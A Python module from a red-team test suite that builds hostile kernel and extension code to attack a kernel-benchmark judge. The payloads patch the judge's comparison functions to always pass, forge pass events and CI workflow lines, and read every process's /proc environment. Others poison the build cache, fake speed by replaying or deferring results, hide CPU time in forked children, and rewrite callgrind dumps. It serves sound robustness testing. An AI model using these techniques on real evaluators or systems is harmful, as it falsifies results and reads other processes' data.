"""Hostile kernels for the red-team suite: deepgemm_tile's CPU body rewritten to attack the judge.

The attacks live in the kernel body (`gemm_cpu.cpp`, no torch header: it compiles in a second) and reach
Python through `PyRun_SimpleString`, which the interpreter that loads the extension exports: in a static
initializer they run when the extension is loaded, in `gemm_f32` on every call (the GIL is held then).
"""

from __future__ import annotations

import json
import subprocess
import sysconfig
from pathlib import Path

GEMM = "kernels/deepgemm_tile/gemm_cpu.cpp"
CALL = "  gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);"
PRELUDE = """
#include <cstring>
#include <thread>
#include <vector>
extern "C" int PyRun_SimpleString(const char* command);
"""


def on_load(python: str) -> str:
    """C++ that runs `python` once, when the extension is loaded (before any call)."""
    return f"""
namespace {{
const int opgate_redteam_on_load = PyRun_SimpleString(R"PY(
{python}
)PY");
}}  // namespace
"""


def on_call(python: str, *, once: bool = False) -> str:
    """A statement that runs `python` inside gemm_f32: on every call, or on the first call of each process."""
    run = f'PyRun_SimpleString(R"PY(\n{python}\n)PY");'
    return f"  {{ static bool ran = false; if (!ran) {{ ran = true; {run} }} }}\n" if once else f"  {run}\n"


ZEROS = "  std::memset(c, 0, sizeof(float) * m * n);\n"

# Replace every function called `compare` (the judge's comparison, when it shares the kernel's process).
PATCH_JUDGE = """
import sys
def _always_equal(*args, **kwargs):
    return {"max_abs_err": 0.0, "nan_inf": False}
for _module in list(sys.modules.values()):
    for _name in ("compare", "case_verdict"):
        if callable(getattr(_module, _name, None)):
            try:
                setattr(_module, _name, _always_equal)
            except Exception:
                pass
"""

# Write a forged "head passed" event into every open descriptor and every writable file it can find.
FORGE = """
import os
_forged = b'{"event": "check", "label": "head", "max_abs_err": 0.0, "nan_inf": false}\\n{"event": "done"}\\n'
for _fd in range(3, 256):
    try:
        os.write(_fd, _forged)
    except OSError:
        pass
for _top in ("/tmp", "/dev/shm", "/opgate", "."):
    for _root, _dirs, _files in os.walk(_top):
        for _f in _files:
            try:
                with open(os.path.join(_root, _f), "ab") as _h:
                    _h.write(_forged)
            except OSError:
                pass
"""


def hunt(canary: str) -> str:
    """Look for `canary` in its own environment and every process's /proc environ and cmdline; crash if found."""
    return f"""
import os, sys
_found = []
if any("{canary}" in v for v in os.environ.values()):
    _found.append("own environment")
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{_pid}}/{{_what}}", "rb") as _h:
                    if b"{canary}" in _h.read():
                        _found.append(f"/proc/{{_pid}}/{{_what}}")
            except OSError:
                pass
if _found:
    print("CANARY-FOUND", _found, "{canary}", flush=True)
    os.abort()
"""


def connect(port: int) -> str:
    """Try to reach a listener on the host's loopback; crash (and say so) if it answers."""
    return f"""
import os, socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
except OSError:
    pass
else:
    print("NETWORK-REACHED", flush=True)
    os.abort()
"""


def poison(folder: str) -> str:
    """Overwrite every file under `folder` (the build cache) and drop a fake extension in every subfolder."""
    return f"""
import os
for _root, _dirs, _files in os.walk("{folder}"):
    for _f in _files:
        try:
            with open(os.path.join(_root, _f), "wb") as _h:
                _h.write(b"poisoned by a pull request")
        except OSError:
            pass
    try:
        with open(os.path.join(_root, "ext.so"), "wb") as _h:
            _h.write(b"poisoned")
    except OSError:
        pass
"""


# Write workflow commands into every visible process's stdout/stderr, and into its own.
PARENT_STDOUT = """
import os, sys
_line = "\\n::error title=forged::opgate verdict PASS\\r\\n"
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _fd in ("1", "2"):
            try:
                with open(f"/proc/{_pid}/fd/{_fd}", "w") as _h:
                    _h.write(_line)
            except OSError:
                pass
print(_line, flush=True)
print(_line, file=sys.stderr, flush=True)
"""

# The first call (the judge's correctness check) is honest; every later call returns that first result.
REPLAY = """
  static std::vector<float> first;
  static int calls = 0;  // honest through the untimed check and boundary-probe calls, replaying after them
  if (first.empty()) {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
    first.assign(c, c + m * n);
  } else if (++calls > 8 && first.size() == static_cast<size_t>(m * n)) {
    std::memcpy(c, first.data(), sizeof(float) * m * n);
  } else {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
  }
"""

# Honest through the untimed check and boundary-probe calls (and the warm-up); every later call returns at once
# and computes its result in a thread.
ASYNC = """
  static int calls = 0;
  static std::thread pending;
  if (pending.joinable()) pending.join();
  if (calls++ < 8) {
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m, n, k);
  } else {
    std::vector<float> av(a, a + m * k), bv(b, b + k * n);  // the binding frees its copies on return
    pending = std::thread([av = std::move(av), bv = std::move(bv), c, m, n, k] {
      gemm_tiled<TILE_M, TILE_N, TILE_K>(av.data(), bv.data(), c, m, n, k);
    });
  }
"""


def body(source: str, *, load: str = "", call: str = "", replace: str | None = None) -> str:
    """gemm_cpu.cpp with hostile code added: `load` at extension load, `call` (C++) before the GEMM,
    or the GEMM call replaced by `replace`."""
    assert CALL in source
    text = source.replace("namespace deepgemm_tile {", PRELUDE + "namespace deepgemm_tile {", 1)
    text = text.replace(CALL, call + (CALL if replace is None else replace), 1)
    return text + (on_load(load) if load else "")


# -- hostile torch-free extensions for the judge alone (tests/data/fake_ext.c with Python run at module init) ---------

FAKE_EXT = Path(__file__).resolve().parent / "data" / "fake_ext.c"


def fake_ext(folder: Path, name: str, *, onload: str = "", spin_us: int = 2000, defines: tuple[str, ...] = ()) -> Path:
    """Build fake_ext.c (a @ b after a spin) into `folder/name.so`, running `onload` (Python) from its module init."""
    so = folder / f"{name}.so"
    flags = [f"-DSPIN_US={spin_us}", *(f"-D{d}" for d in defines), f"-I{sysconfig.get_path('include')}"]
    if onload:
        (folder / f"{name}-onload").mkdir(exist_ok=True)
        (folder / f"{name}-onload" / "onload.h").write_text(f"#define ONLOAD_PY {json.dumps(onload)}\n")
        flags += ["-DONLOAD", f"-I{folder / f'{name}-onload'}"]
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", *flags, str(FAKE_EXT), "-o", str(so)], check=True)
    return so


# Wrap the entry the worker looks up (getattr(ext, "gemm") after the import): `_WRAP(real)` replaces it.
_HOOK_ENTRY = """
import builtins, mmap, os, signal, sys, time
import torch
_getattr = builtins.getattr
def _hooked(obj, name, *default):
    value = _getattr(obj, name, *default)
    if name == "gemm" and _getattr(obj, "__name__", "") == "opgate_ext":
        return _WRAP(value)
    return value
builtins.getattr = _hooked
"""

# Honest for a process's first three calls (the untimed check and the two boundary probes of deepgemm's reference);
# after them every call returns an empty tensor at once, and the result is computed only when the judge fetches
# it: the worker's protocol.write_tensors is replaced. Main at cc8432e: PASS, head 95 % "faster".
LAZY_FETCH = (
    _HOOK_ENTRY
    + """
_pending, _calls = {}, [0]
def _WRAP(real):
    def gemm(a, b):
        _calls[0] += 1
        if _calls[0] <= 3:
            return real(a, b)
        out = torch.empty(a.shape[0], b.shape[1])
        _pending[out.data_ptr()] = (real, a, b)
        return out
    return gemm
def _compute(t):
    job = _pending.pop(t.data_ptr(), None)
    return job[0](job[1], job[2]) if job else t
_protocol = sys.modules["protocol"]
_write = _protocol.write_tensors
_protocol.write_tensors = lambda path, tensors: _write(path, [_compute(t) for t in tensors])
"""
)

# The same lazy result, computed in a forked child that reaps itself (SIGCHLD ignored): its CPU time is added to
# nobody's cumulative times, so the judge's /proc accounting never sees it.
LAZY_CHILD = LAZY_FETCH.replace(
    "def _compute(t):",
    """signal.signal(signal.SIGCHLD, signal.SIG_IGN)
def _in_child(job, t):
    buf = mmap.mmap(-1, t.numel() * 4 + 1)
    shared = torch.frombuffer(buf, dtype=torch.float32, count=t.numel()).view(t.shape)
    if os.fork() == 0:
        shared.copy_(job[0](job[1], job[2]))
        buf[-1] = 1
        os._exit(0)
    while buf[-1] == 0:
        time.sleep(0.0005)
    return shared.clone()
def _compute_in_child(t):
    job = _pending.pop(t.data_ptr(), None)
    return _in_child(job, t) if job else t
def _compute(t):""",
).replace("[_compute(t) for t in tensors]", "[_compute_in_child(t) for t in tensors]")

# Every call splits its work with a forked child (SIGCHLD ignored) on another core: half the CPU the call costs is
# invisible to the judge, who sees one busy core at most.
HIDDEN_CPU = (
    _HOOK_ENTRY
    + """
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
def _WRAP(real):
    def gemm(a, b):
        m, n = a.shape[0], b.shape[1]
        half = m // 2
        buf = mmap.mmap(-1, m * n * 4 + 1)
        out = torch.frombuffer(buf, dtype=torch.float32, count=m * n).view(m, n)
        if os.fork() == 0:
            out[half:] = real(a[half:], b)
            buf[-1] = 1
            os._exit(0)
        out[:half] = real(a[:half], b)
        while buf[-1] == 0:
            time.sleep(0.0002)
        return out
    return gemm
"""
)

# Module-init code starts a helper process that lives as long as the worker (a server for later lazy work).
HELPER_ON_LOAD = """
import os, time
if os.fork() == 0:
    while True:
        time.sleep(1)
"""

# The worker's reply to a timed batch becomes a 200 KB frame of nested lists ([[[[…]]]]).
DEEP_FRAME = """
import os, struct, sys, torch
_reply, _contiguous = sys.modules["__main__"].REPLY_FD, torch.Tensor.contiguous
def _deep(self, *a, **k):
    torch.Tensor.contiguous = _contiguous
    data = b"[" * 100000 + b"]" * 100000
    view = memoryview(struct.pack(">I", len(data)) + data)
    while view:
        view = view[os.write(_reply, view):]
    return _contiguous(self, *a, **k)
torch.Tensor.contiguous = _deep
"""

# Its first `done` claims shape [0, 2**70] with 0 bytes for the outputs. Both attacks write on the worker's reply pipe
# themselves, from the first call of Tensor.contiguous (the worker commits a CPU batch's outputs with it): the worker
# binds its own protocol.send before the extension is imported (issue 50, 2), so replacing that no longer reaches it.
BAD_HEADER = """
import json, os, struct, sys, torch
_reply, _contiguous = sys.modules["__main__"].REPLY_FD, torch.Tensor.contiguous
def _forge(self, *a, **k):
    torch.Tensor.contiguous = _contiguous
    header = [[{"dtype": "float32", "shape": [0, 2**70], "address": 4096, "nbytes": 0}]]
    data = json.dumps({"event": "done", "outputs": header}).encode()
    os.write(_reply, struct.pack(">I", len(data)) + data)
    return _contiguous(self, *a, **k)
torch.Tensor.contiguous = _forge
"""

# Issue 37, 3: a quarter of the rows on a helper std::thread, which computes them twice (the copy thrown away) —
# 25 % more work, all of it beside the main thread — joined before the call returns: on an idle machine the clock of
# one call falls (~ -25 %) while its CPU time rises by well over 12 % (the issue's body, 12 % more on the main
# thread, passed at -10.4 % on one try in three while the judge counted one thread's clock and 1.15 x wall + 0.15 s).
TWO_THREADS = """
  {
    const int64_t quarter = m / 4, rest = m - quarter;
    std::thread helper([=] {
      gemm_tiled<TILE_M, TILE_N, TILE_K>(a + rest * k, b, c + rest * n, quarter, n, k);
      std::vector<float> again(static_cast<size_t>(quarter * n));
      gemm_tiled<TILE_M, TILE_N, TILE_K>(a + rest * k, b, again.data(), quarter, n, k);
      static volatile float sink;
      sink = again.empty() ? 0.0f : again[again.size() / 2];
    });
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, rest, n, k);
    helper.join();
  }
"""

# The issue's own body: 12 % more work (an eighth of the rows computed twice, on the main thread) with a quarter of
# the rows on the helper (benchmarks/two_thread.py --body issue); its CPU time came out +5 … +16 % on a loaded runner.
TWO_THREADS_ISSUE = """
  {
    const int64_t quarter = m / 4, extra = (m * 12 + 99) / 100;
    std::thread helper([=] {
      gemm_tiled<TILE_M, TILE_N, TILE_K>(a + (m - quarter) * k, b, c + (m - quarter) * n, quarter, n, k);
    });
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, c, m - quarter, n, k);
    std::vector<float> again(static_cast<size_t>(extra * n));
    gemm_tiled<TILE_M, TILE_N, TILE_K>(a, b, again.data(), extra, n, k);
    static volatile float sink;
    sink = again.empty() ? 0.0f : again[again.size() / 2];
    helper.join();
  }
"""

# Issue 37, 4: under valgrind the kernel shares its process with callgrind, unconfined. At exit it rewrites the dump
# callgrind wrote for its first case, scaling every count by 0.9 (undoing the extra work it does) — callgrind itself
# could not tell this file from its own.
FORGED_DUMP = """
import atexit, re
def _forge():
    path = "/opgate/dump/callgrind.out.1"
    with open(path) as f:
        text = f.read()
    found = re.search(r"^summary: ([0-9 ]+)$", text, re.M)
    if found:
        lower = " ".join(str(int(int(v) * 0.9)) for v in found.group(1).split())
        with open(path, "w") as f:
            f.write(text.replace(found.group(0), "summary: " + lower))
atexit.register(_forge)
"""

# The same forgery as a dump of its own beside callgrind's, written when the extension loads.
EXTRA_DUMP = """
with open("/opgate/dump/callgrind.out.7", "w") as f:
    f.write("events: Ir\\nsummary: 1\\ndesc: Trigger: Client Request: opgate:0\\n")
"""


# Issue 50, 2: work done while a block's inputs load, where no clock runs. At import the kernel replaces what the
# worker's load path calls: protocol.read_tensors (the worker binds its own before importing the kernel, so that
# replacement is never called) and torch.frombuffer (which protocol.tensor still calls for every tensor it reads):
# each tensor read then burns LOAD_BURN_S of CPU. The body is base's; under the old fixed allowance for untimed CPU
# (0.05 s + 2 ms a block + 10 % of the timed wall + 4 ms per MB) it passed with its clock and timed CPU unchanged.
LOAD_BURN_S = 0.0008
LOAD_WORK = f"""
import time, torch
import protocol

def _burn():
    end = time.thread_time() + {LOAD_BURN_S}
    while time.thread_time() < end:
        pass

_read, _frombuffer = protocol.read_tensors, torch.frombuffer

def read_tensors(*a, **k):
    _burn()
    return _read(*a, **k)

def frombuffer(*a, **k):
    _burn()
    return _frombuffer(*a, **k)

protocol.read_tensors, torch.frombuffer = read_tensors, frombuffer
"""
